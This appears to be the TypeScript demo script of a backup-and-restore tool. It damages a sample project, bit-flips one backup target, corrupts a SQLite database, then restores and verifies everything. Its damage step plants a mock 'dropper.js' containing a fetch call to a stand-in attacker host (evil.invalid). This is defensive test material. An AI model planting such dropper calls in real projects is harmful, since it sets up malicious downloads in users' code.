import { mkdtemp, mkdir, writeFile, rm, symlink, unlink, readFile, readdir, open } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, dirname } from 'node:path';
import { randomBytes } from 'node:crypto';
import { Repository } from '../repo/repository.js';
import { openStorage } from '../storage/registry.js';
import { MirrorStorage } from '../storage/mirror.js';
import Database from 'better-sqlite3';
import { sqliteDriver } from '../db/sqlite/sqlite-driver.js';
import type { SqliteSource } from '../config/schema.js';
import { backup } from '../snapshot/archiver.js';
import { restoreTree } from '../snapshot/restorer.js';
import { diffLive, type Change } from '../snapshot/diff.js';
import { loadTree } from '../repo/tree.js';
import { checkRepository } from '../verify/check.js';
import { shortId } from '../repo/ids.js';
import { Secret } from '../util/secret.js';
import { IntegrityError } from '../util/errors.js';
import { formatBytes } from '../util/format.js';
import { demoDeploy } from './deploy-story.js';
import { demoAttack } from './attack-story.js';

/** One line of the demo's story, with how long the step took. */
export interface DemoStep {
  readonly title: string;
  readonly detail: string;
  readonly seconds: number;
}

export interface DemoResult {
  readonly dir: string;
  readonly steps: DemoStep[];
  readonly ok: boolean;
}

/**
 * The demo scenario (npm start): a sample project is backed up into a repository on two local targets, damaged
 * (and so is the first target), restored (damaged ranges read from the second target) and verified byte for byte
 * against the snapshot; each target is checked on its own. Then a SQLite database is corrupted and restored, and an
 * app is deployed twice, its second release failing its health check and rolled back by itself. Last, a data folder
 * is hit by a simulated ransomware run over two backups, and `rollback attack` brings back its last clean state.
 */
export async function runDemo(o: { dir?: string; keep?: boolean; onStep?: (s: DemoStep) => void } = {}): Promise<DemoResult> {
  const dir = o.dir ?? (await mkdtemp(join(tmpdir(), 'safepoint-demo-')));
  const project = join(dir, 'shop');
  const steps: DemoStep[] = [];
  const step: Step = async <T>(title: string, fn: () => Promise<[T, string]>): Promise<T> => {
    const t0 = performance.now();
    const [value, detail] = await fn();
    const s = { title, detail, seconds: (performance.now() - t0) / 1000 };
    steps.push(s);
    o.onStep?.(s);
    return value;
  };
  try {
    const files = await step('create a sample project', async () => {
      const n = await makeProject(project);
      return [n, `${n.files} files, ${formatBytes(n.bytes)} in ${project} (code, config/app.env with a secret, a binary asset, a symlink)`];
    });
    void files;
    const password = new Secret(randomBytes(16).toString('hex'));
    const targets = [join(dir, 'backup-disk-1'), join(dir, 'backup-disk-2')];
    const repo = await step('initialise an encrypted repository on two targets', async () => {
      const r = await Repository.init(new MirrorStorage(await Promise.all(targets.map((t) => openStorage(t)))), password);
      return [r, `${targets.join(' + ')}: every pack is written to both in one pass (AES-256-GCM, scrypt-wrapped key, id ${shortId(r.config.id)})`];
    });
    const first = await step('back up the project (full)', async () => {
      const r = await backup(repo, { paths: [project], tags: ['demo'] });
      const s = r.snapshot.summary;
      return [r, `snapshot ${shortId(r.snapshotId)}: ${s.files_new} files, ${formatBytes(s.total_bytes_processed)} read, ${formatBytes(s.data_added)} stored`];
    });
    const second = await step('edit one file and back up again (incremental)', async () => {
      await writeFile(join(project, 'src', 'module-1.js'), '// edited\n' + (await readFile(join(project, 'src', 'module-1.js'), 'utf8')));
      const r = await backup(repo, { paths: [project], tags: ['demo'], parent: { ...first.snapshot, id: first.snapshotId } });
      const s = r.snapshot.summary;
      return [r, `snapshot ${shortId(r.snapshotId)}: ${s.files_changed} changed, ${s.files_unmodified} unmodified (not re-read), ${formatBytes(s.data_added)} stored`];
    });
    await step('damage the project', async () => {
      await unlink(join(project, 'src', 'module-2.js'));
      await unlink(join(project, 'README.md'));
      await rm(join(project, 'src', 'lib'), { recursive: true });
      await writeFile(join(project, 'config', 'app.env'), 'API_KEY=stolen\n');
      const fh = await open(join(project, 'assets', 'logo.bin'), 'r+');
      await fh.write(Buffer.from('CORRUPTED'), 0, 9, 1000);
      await fh.close();
      await writeFile(join(project, 'src', 'dropper.js'), 'fetch("http://evil.invalid")\n');
      return [null, 'deleted 2 files and a folder, overwrote the secret, corrupted the binary asset, added a file'];
    });
    const rootNode = async (): Promise<string | undefined> => (await loadTree(repo, second.snapshot.tree)).nodes.find((n) => n.name === 'shop')?.subtree;
    const liveOpts = { content: true, gear: repo.gear, chunkerParams: repo.chunkerParams, blobId: (p: Uint8Array) => repo.blobId(p) };
    await step('detect what changed since the last snapshot (diff --live)', async () => {
      const changes: Change[] = [];
      for await (const c of diffLive(repo, await rootNode(), project, liveOpts, 'shop')) changes.push(c);
      return [changes, changes.map((c) => `${c.kind} ${c.path}`).join(', ')];
    });
    await step('take a safety snapshot of the damaged state', async () => {
      const r = await backup(repo, { paths: [project], tags: ['safety'], parent: { ...second.snapshot, id: second.snapshotId } });
      return [r, `snapshot ${shortId(r.snapshotId)} tagged "safety": the damaged state can itself be recovered`];
    });
    const flipped = await step('damage the first backup target too (bit flips in its packs)', async () => {
      const packs = await flipPackBytes(targets[0]!);
      return [packs, `${packs} packs of ${targets[0]} altered: restore must notice and read those ranges from the second target`];
    });
    await step('restore the last good snapshot in place', async () => {
      await rm(project, { recursive: true, force: true }); // the safety snapshot holds what is removed here
      const r = await restoreTree(repo, second.snapshot.tree, { target: dir, overwrite: true, verify: true });
      if (r.errors.length > 0) throw new IntegrityError(`restore failed: ${r.errors.join('; ')}`);
      return [r, `${r.files} files, ${r.dirs} folders, ${formatBytes(r.bytes)} written; ${r.verified} files re-read and verified`];
    });
    const ok = await step('verify every byte against the snapshot', async () => {
      const changes: Change[] = [];
      for await (const c of diffLive(repo, await rootNode(), project, liveOpts, 'shop')) changes.push(c);
      // each target checked on its own, as `safepoint check` does: the damage on the first is found, the second is whole
      const [damaged, healthy] = await Promise.all(targets.map(async (t) => {
        const single = await Repository.open(await openStorage(t), password);
        try {
          return await checkRepository(single, { readData: 1 });
        } finally {
          await single.close();
        }
      }));
      const found = new Set(damaged!.problems.filter((p) => p.kind === 'pack').map((p) => p.id)).size;
      const good = changes.length === 0 && healthy!.problems.length === 0 && found === flipped;
      return [good, good ? `no difference with snapshot ${shortId(second.snapshotId)}; check --read-data: ${targets[1]} whole (${healthy!.blobsRead} blobs verified), ${targets[0]}: all ${found} altered packs detected` : `${changes.length} differences (${changes.slice(0, 5).map((c) => `${c.kind} ${c.path}`).join(', ')}), ${healthy!.problems.length} problems on the healthy target, ${found} of ${flipped} altered packs detected`];
    });
    const dbOk = await demoDatabase(repo, dir, step);
    await repo.close();
    const deployOk = await demoDeploy(dir, step);
    const attackOk = await demoAttack(dir, step);
    return { dir, steps, ok: ok && dbOk && deployOk && attackOk };
  } finally {
    if (!o.keep && !o.dir) await rm(dir, { recursive: true, force: true });
  }
}

type Step = <T>(title: string, fn: () => Promise<[T, string]>) => Promise<T>;

/** The database part: a SQLite database backed up online, corrupted, restored to the last good point, verified. */
async function demoDatabase(repo: Repository, dir: string, step: Step): Promise<boolean> {
  const path = join(dir, 'shop-data', 'shop.db');
  const source: SqliteSource = { name: 'shop-db', type: 'sqlite', repository: 'demo', path, tags: [], services: [], continuous: false, checks: [{ sql: "select count(*) = 500 from orders where status = 'paid'" }] };
  const backed = await step('back up the shop database (SQLite, online)', async () => {
    await mkdir(dirname(path), { recursive: true });
    const db = new Database(path);
    db.pragma('journal_mode = WAL');
    db.exec("create table orders (id integer primary key, customer text, total real, status text); create index orders_customer on orders (customer);");
    const insert = db.prepare('insert into orders (customer, total, status) values (?, ?, ?)');
    db.transaction(() => {
      for (let i = 0; i < 500; i++) insert.run(`customer-${i % 37}`, (i * 7.3) % 250, 'paid');
    })();
    db.close();
    const r = await sqliteDriver.backup(repo, source, {});
    return [r, `snapshot ${shortId(r.snapshotId)} of ${path}: ${JSON.stringify((r.snapshot.meta as { tables?: unknown }).tables)} rows (a consistent online copy)`];
  });
  await step('corrupt the database (a bad disk write in the middle of the file)', async () => {
    const fh = await open(path, 'r+');
    const { size } = await fh.stat();
    await fh.write(Buffer.alloc(4096, 0xee), 0, 4096, Math.floor(size / 2 / 4096) * 4096);
    await fh.close();
    const failed = (await sqliteDriver.verify(source, backed.snapshot, {})).filter((c) => !c.ok).map((c) => c.name);
    return [failed, `verify now fails: ${failed.join(', ')}`];
  });
  return step('restore the database to the last good point and verify it', async () => {
    const r = await sqliteDriver.restore(repo, backed.snapshot, source, {}, {});
    const checks = await sqliteDriver.verify(source, backed.snapshot, {});
    const good = checks.every((c) => c.ok);
    return [good, `${r.target} (${formatBytes(r.bytes)}): ${checks.map((c) => `${c.name} ${c.ok ? 'ok' : `FAILED (${c.detail})`}`).join(', ')}`];
  });
}

/** Flips one byte in the middle of every data pack of a local repository folder; returns how many. */
async function flipPackBytes(repoDir: string): Promise<number> {
  let n = 0;
  for (const sub of await readdir(join(repoDir, 'data'))) {
    for (const name of await readdir(join(repoDir, 'data', sub))) {
      const fh = await open(join(repoDir, 'data', sub, name), 'r+');
      try {
        const { size } = await fh.stat();
        const b = Buffer.alloc(1);
        await fh.read(b, 0, 1, Math.floor(size / 2));
        b[0] = b[0]! ^ 0x5a;
        await fh.write(b, 0, 1, Math.floor(size / 2));
        n++;
      } finally {
        await fh.close();
      }
    }
  }
  return n;
}

async function makeProject(root: string): Promise<{ files: number; bytes: number }> {
  let files = 0;
  let bytes = 0;
  const put = async (rel: string, data: string | Buffer): Promise<void> => {
    const p = join(root, rel);
    await mkdir(dirname(p), { recursive: true });
    await writeFile(p, data);
    files++;
    bytes += Buffer.byteLength(data);
  };
  await put('README.md', '# shop\n\nThe sample application of the safepoint demo.\n');
  await put('package.json', JSON.stringify({ name: 'shop', version: '1.0.0', scripts: { start: 'node src/index.js' } }, null, 2));
  await put('config/app.env', 'DATABASE_URL=sqlite:///srv/shop/data/shop.db\nAPI_KEY=sk_live_7f3a9c2e\n');
  await put('config/nginx.conf', 'server {\n  listen 80;\n  location / { proxy_pass http://127.0.0.1:8080; }\n}\n');
  for (let i = 0; i < 40; i++) await put(`src/module-${i}.js`, `export function handler${i}(req) {\n${'  // business logic\n'.repeat(50 + i)}  return { status: 200, id: ${i} };\n}\n`);
  for (let i = 0; i < 5; i++) await put(`src/lib/util-${i}.js`, `export const util${i} = (x) => x * ${i};\n`.repeat(20));
  await put('assets/logo.bin', randomBytes(2 * 1024 * 1024 + 123));
  await mkdir(join(root, 'data', 'uploads'), { recursive: true });
  await symlink('config/app.env', join(root, '.env'));
  return { files, bytes };
}
